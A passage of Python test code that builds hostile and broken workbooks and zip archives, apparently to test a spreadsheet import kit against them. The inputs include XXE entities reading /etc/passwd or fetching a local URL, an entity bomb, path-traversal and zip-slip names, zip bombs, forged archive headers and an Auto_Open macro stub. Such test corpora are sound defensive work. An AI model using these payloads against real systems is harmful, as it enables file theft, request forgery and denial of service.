    + '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>',
}

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ENTITIES = {
    "entity": '<!DOCTYPE x [<!ENTITY four "4">]>',
    "entity-bomb": f'<!DOCTYPE x [<!ENTITY l0 "4">{LAUGHS}<!ENTITY four "&l9;">]>',
    "entity-blown-up": f'<!DOCTYPE x [<!ENTITY four "{"4" * 9000}">]>',
    "entity-of-itself": '<!DOCTYPE x [<!ENTITY four "&four;">]>',
    "entity-of-a-file": '<!DOCTYPE x [<!ENTITY four SYSTEM "file:///etc/passwd">]>',
    "entity-of-a-windows-file": '<!DOCTYPE x [<!ENTITY four SYSTEM "file:///c:/windows/win.ini">]>',
    "entity-of-a-page": '<!DOCTYPE x [<!ENTITY four SYSTEM "http://127.0.0.1:9/evil">]>',
    "entity-of-a-parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/e">%p;]>',
    "entity-undeclared": "",
}
FOUR = with_cell('<c t="str"><v>&four;</v></c>')[PARTS["worksheet"]]

# What a part is instead: what cannot be read, and what can.
ODD_PARTS = {
    "worksheet": (
        *(f"<a>{number(4)}</a>", "<worksheet/>", f'<!DOCTYPE x SYSTEM "/etc/passwd">{SHEET}'),
        *(f"<!DOCTYPE html>{SHEET}", SHEET * 2, SHEET[:-5], f"<html>{HTML}</html>"),
        f'<?xml version="1.0" encoding="evil-8"?>{SHEET}',
        f'<?xml version="1.0" encoding="UTF-16"?>{SHEET}',
        SHEET.encode().replace(b"Namn", b"N\xffmn"),
    ),
    "workbook": (
        *("<workbook><sheets/></workbook>", "<document><body/></document>"),
        BOOK.replace("sheet1", "sheet7"),
    ),
    "pointers": (
        POINTERS.replace('Target="work', 'TargetMode="External" Target="work'),
        POINTERS.replace("</R", '<Relationship Id="worksheet1" Type="x" Target="y"/></R'),
        POINTERS.replace('/worksheet"', '/chartsheet"'),
        ENTITIES["entity-of-a-file"] + POINTERS,
    ),
    "texts": (ENTITIES["entity-bomb"] + "<sst><si><t>&four;</t></si></sst>",),
    "styles": (
        f"<a><cellXfs><xf numFmtId={quoteattr(HTML)}/></cellXfs></a>",
        '<a><numFmt numFmtId="164"/></a>',
    ),
}
FINE_PARTS = {
    "worksheet": (
        f'<?xml-stylesheet href="http://127.0.0.1:9/e"?>{SHEET}',
        SHEET.replace(" xmlns", ' xsi="http://127.0.0.1:9/e.xsd" xmlns'),
        SHEET.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>'),
        SHEET.replace("</w", '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></w'),
        codecs.BOM_UTF16_LE + SHEET.encode("utf-16-le"),
        codecs.BOM_UTF8 + SHEET.encode(),
    ),
    "workbook": (BOOK.replace("<sheet ", '<sheet r:id="worksheet1"/>' * 200 + "<sheet "),),
    "styles": (f'<numFmt numFmtId="1" formatCode="{"[" * 9000}"/>',),
    "types": ("<Default ContentType='text/html'/>", b"\0\xff"),
}

# To where the pointer to a worksheet should not lead.
TARGETS = (
    *("../../../../../../etc/passwd", "/etc/passwd", "C:\\windows\\win.ini", "file:///etc/passwd"),
    *("http://127.0.0.1:9/evil.xml", "workbook.xml", "_rels/workbook.xml.rels", "", "a/" * 4000),
    "worksheets/sheet1.xml%00.png",
)
NEEDED = ("relations", "workbook", "pointers", "texts", "worksheet")

# Of which the kit reads nothing.
MORE_PARTS = {
    "macros": {"xl/vbaProject.bin": OLD_OFFICE + b"Sub Auto_Open()\r\nShell(1)"},
    "data-from-elsewhere": {
        "xl/connections.xml": '<connections><connection url="http://127.0.0.1:9/"/></connections>',
        "xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>",
        "xl/embeddings/oleObject1.bin": OLD_OFFICE,
    },
}


def workbooks():
    """Return workbooks whose XML is broken, or means harm."""
    made = {
        **numbered("mixed-cell", MIXED_CELLS, with_cell),
        **numbered("cell", BROKEN_CELLS, with_cell),
        **numbered("valid-cell", HARMLESS_CELLS, with_cell),
        **numbered("xml", XML_CELLS, with_cell),
        **each("xml", ENTITIES, lambda one: book(worksheet=one + FOUR)),
        **{name: book(rows) for name, rows in ODD_ROWS.items()},
        **{
            f"{start}{part}-{at:02}": book(**{part: one})
            for start, odd in (("", ODD_PARTS), ("valid-", FINE_PARTS))
            for part, cases in odd.items()
            for at, one in enumerate(cases)
        },
        **{
            f"part-{part}-{what}": book(**{part: instead})
            for what, instead in {"missing": None, "empty": "", "is-a-picture": PICTURE}.items()
            for part in NEEDED
        },
        **numbered("target", TARGETS, leading_to),
        **each("valid", MORE_PARTS, lambda more: book() | more),
    }
    return {name: zipped(parts) for name, parts in made.items()}


# Archives


def deflated(parts):
    return zipped(parts, zipfile.ZIP_DEFLATED)


def patched(content, offset, value, part):
    """Change a field in the directory's entry of a part."""
    at = content.rindex(b"PK\1\2", 0, content.rindex(PARTS[part].encode())) + offset
    return content[:at] + value + content[at + len(value) :]


OPEN_DOCUMENT = "application/vnd.oasis.opendocument.spreadsheet"
SHARES = (1, 10, 30, 50, 70, 90, 99)


def archives():
    """Return archives that are torn, lie about what they hold, or swell."""
    plain = zipped(book())
    export = table(person())
    end = plain.rindex(b"PK\5\6")
    swollen = deflated(book(SOUND + " " * 900_000))
    twice = [*book().items(), ("xl/worksheets/sheet9.xml", "<evil")]
    return {
        **{f"torn-at-{n:02}-percent.xlsx": plain[: len(plain) * n // 100] for n in SHARES},
        "end-alone.xlsx": plain[end:],
        "directory-lost.xlsx": plain[: plain.index(b"PK\1\2")] + plain[end:],
        "directory-far-off.xlsx": plain[: end + 16] + b"\xff\xff\xff\x7f" + plain[end + 20 :],
        "valid-directory-counts-60000.xlsx": plain[: end + 10] + b"\x60\xea" + plain[end + 12 :],
        "head-overwritten.xlsx": b"PK\3\4" + b"evil" * 200 + plain[804:],
        "byte-flipped-within.xlsx": plain.replace(b"breadth-1", b"breadth-7"),
        "archive-of-nothing.xlsx": zipped({}),
        "archive-twice.xlsx": plain[:-40] + plain[:-40],
        "locked-member.xlsx": patched(plain, 8, b"\1\0", "workbook"),
        "way-to-pack-bzip2.xlsx": zipped(book(), zipfile.ZIP_BZIP2),
        "way-to-pack-unknown.xlsx": patched(plain, 10, b"\x63\0", "workbook"),
        "way-to-pack-deflate-and-is-not.xlsx": patched(plain, 10, b"\x08\0", "worksheet"),
        "lies-about-size.xlsx": patched(swollen, 24, struct.pack("<I", 1000), "worksheet"),
        "lies-about-4-gigabytes.xlsx": patched(swollen, 24, b"\xff\xff\xff\xfe", "worksheet"),
        "lies-about-place.xlsx": patched(plain, 42, struct.pack("<I", 9), "worksheet"),
        "lies-about-checksum.xlsx": patched(plain, 16, b"evil", "worksheet"),
        "lies-about-checksum-of-texts.xlsx": patched(plain, 16, b"evil", "texts"),
        "bomb-of-zeros.xlsx": deflated(book() | {"xl/x": bytes(20_000_000)}),
        "bomb-of-blanks.xlsx": deflated(book(SOUND + " " * 20_000_000)),
        "bomb-in-csv.zip": deflated({"a.csv": b";" * 20_000_001}),
        "bomb-of-bombs.zip": deflated({f"{n}.zip": bytes(900_000) for n in range(9)}),
        "parts-1006.xlsx": zipped(book() | {f"{n}": b"" for n in range(1000)}),
        "zip-in-a-zip.zip": zipped({"export.zip": zipped({"export.csv": export})}),
        "valid-workbook-in-a-zip.zip": zipped({"export.xlsx": plain}),
        "valid-two-exports.zip": zipped({"a.csv": export, "b.csv": export}),
        "no-export.zip": zipped({"readme.txt": b"4"}),
        "picture-as-export.zip": zipped({"export.csv": PICTURE}),
        "open-document.ods": zipped(
            {"mimetype": OPEN_DOCUMENT, "content.xml": "<office:document-content/>"}
        ),
        "member-twice.xlsx": zipped(twice).replace(b"sheet9", b"sheet1"),
        "valid-zipped.zip": zipped({"export.csv": export}),
        "valid-macros.xlsm": zipped(book() | {"xl/vbaProject.bin": b"Sub Auto_Open()"}),
        "valid-comment-at-the-end.xlsx": plain[:-2] + b"\4\0evil",
        "valid-something-before.xlsx": b"PK\3\4evil" + plain,
        "valid-swollen-but-small.xlsx": swollen,
        "valid-member-of-5000-letters.zip": zipped({f"{'a' * 5000}.csv": export}),
        "valid-member-right-to-left.zip": zipped({f"{RIGHT_TO_LEFT}vsc.exe.csv": export}),
    }


# Put over others of the same length: zipfile changes some of them.
NAMES = (
    *("../../../evil.csv", "/tmp/evilxx.csv", "C:\\evil\\ab.csv", "..\\..\\ev\\a.csv"),
    *("ev\0l\0\0\0\0\0\0\0\0.csv", "evil\n\n\n\n\n\n\n.csv", "<img src=x>abc.csv"),
    *("CON...........csv", "__init__.py\0abcd"),
)


def members_with_names():
    """Return archives whose members have harmful names."""
    made = {}
    for at, name in enumerate(NAMES):
        held = "x" * (len(name) - 4) + ".csv"
        alone = zipped({held: table(person())})
        beside = zipped(book() | {held: b"evil"})
        kind, end = "" if "\0" in name else "valid-", f"member-{at}{beginning(name)}"
        made[f"{kind}{end}.zip"] = alone.replace(held.encode(), name.encode())
        made[f"valid-{end}.xlsx"] = beside.replace(held.encode(), name.encode())
    return made
